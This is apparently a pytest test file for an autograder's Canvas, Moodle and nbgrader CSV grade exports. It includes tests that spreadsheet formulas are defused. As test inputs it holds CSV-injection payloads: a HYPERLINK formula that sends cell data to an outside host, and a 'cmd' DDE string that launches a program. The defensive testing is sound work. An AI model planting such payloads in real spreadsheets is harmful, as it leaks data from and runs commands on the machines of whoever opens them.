"""The CSV files: the columns that Canvas, Moodle and nbgrader read, and no formulas."""

import csv
import io
from datetime import datetime

import pytest
from nbgrader.plugins.export import CsvExportPlugin

from autograder.chapter import chapters
from autograder.export import as_csv, canvas, defused, moodle, write_exports
from autograder.marks import read_marks
from autograder.record import Book
from autograder.verdict import FAILED, Verdict
from tests.autograder.conftest import CHAPTER, COURSE, record, verdict_of

FORMULA = '=HYPERLINK("http://example.org?"&A1,"click")'


@pytest.fixture(scope="module")
def root(tmp_path_factory, chapter):
    """Ada (6 points, all names), Blaise (3, late, changed by hand), Emmy failed, Grace nothing."""
    root = tmp_path_factory.mktemp("class")
    wrong = dict.fromkeys(("ex-0-1-check", "ex-0-1-hidden-1"), "no")
    verdicts = [verdict_of(chapter, "ada", {}), verdict_of(chapter, "blaise", wrong)]
    record(root, chapter, [*verdicts, Verdict("emmy", CHAPTER, FAILED, "not a notebook")])
    with Book(root) as book:
        names = {"first_name": "Ada", "last_name": "Lovelace", "email": "ada@example.org"}
        book.gradebook.update_or_create_student("ada", lms_user_id="4711", **names)
        book.gradebook.add_student("grace@example.org", lms_user_id="SIS-7", first_name=FORMULA)
        late = book.gradebook.find_submission(CHAPTER, "blaise")
        late.timestamp = datetime(2030, 1, 2, 3, 4, 5)
        late.notebooks[0].late_submission_penalty = 0.5
        (grade,) = [g for g in late.notebooks[0].grades if g.cell.name == "ex-0-1-check"]
        grade.manual_score = 1 / 3
        book.gradebook.assignments[0].duedate = datetime(2030, 1, 1)
        book.gradebook.db.commit()
    return root


@pytest.fixture(scope="module")
def room(root):
    return read_marks(root, chapters(COURSE))


def read(path):
    return list(csv.reader(io.StringIO(path.read_text("utf-8"))))


def test_canvas(room, tmp_path):
    write_exports(room, tmp_path)
    assert read(tmp_path / "canvas.csv") == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", CHAPTER],
        ["    Points Possible", "", "", "", "", "6"],
        ["Lovelace, Ada", "4711", "", "ada", "", "6"],
        ["blaise", "", "", "blaise", "", "2.83"],
        ["emmy", "", "", "emmy", "", ""],  # Canvas keeps what it has
        ["'" + FORMULA, "", "SIS-7", "grace@example.org", "", ""],
    ]


def test_moodle(room, tmp_path):
    write_exports(room, tmp_path)
    assert read(tmp_path / "moodle.csv") == [
        ["First name", "Last name", "ID number", "Email address", f"{CHAPTER} (Real)"],
        ["Ada", "Lovelace", "4711", "ada@example.org", "6"],
        ["", "", "blaise", "", "2.83"],
        ["", "", "emmy", "", ""],
        ["'" + FORMULA, "", "SIS-7", "grace@example.org", ""],
    ]


def test_nbgraders_columns_hold_what_nbgrader_exports(root, room, tmp_path):
    write_exports(room, tmp_path)
    with Book(root) as book:
        CsvExportPlugin(to=str(tmp_path / "theirs.csv")).export(book.gradebook)
        # nbgrader writes its cells unquoted, so a comma in a name shifts the columns: one row less.
        theirs = [row for row in read(tmp_path / "theirs.csv") if "HYPERLINK" not in str(row)]
    ours = [row for row in read(tmp_path / "nbgrader.csv") if "HYPERLINK" not in str(row)]
    assert ours[0] == theirs[0]
    assert len(ours) == 4

    def plain(row):
        return [round(float(cell), 2) if i > 6 else cell for i, cell in enumerate(row)]

    assert sorted(map(plain, ours[1:])) == sorted(map(plain, theirs[1:]))


def test_nobody_can_pose_as_the_row_of_points(root, room):
    person = room.people["ada"]
    room.people["ada"] = type(person)("ada", first_name="x", last_name="Points Possible")
    try:
        names = [row[0] for row in canvas(room)]
    finally:
        room.people["ada"] = person
    assert names[2] == "ada" and sum("Points Possible" in name for name in names) == 1


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\nx", "  =1", "＝1", "-x"],
)
def test_formulas_are_defused(text):
    assert defused(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Ada", "3", "-3", "+4.5", "-0.25", "O'Brien", "a=b", "é"])
def test_what_is_no_formula_stays(text):
    assert defused(text) == text


def test_texts_are_quoted_and_numbers_are_numbers():
    rows = [['say "hi", twice\nplease', -2.5, 3.0, 1 / 3, None, "=1", "\ud800"]]
    text = as_csv(rows)
    assert text == '"say ""hi"", twice\nplease",-2.5,3,0.33,"","\'=1","?"\n'
    assert next(csv.reader(io.StringIO(text)))[0] == rows[0][0]


def test_every_row_has_a_cell_for_each_column(room):
    for rows in (canvas(room), moodle(room)):
        assert {len(row) for row in rows} == {len(rows[0])}
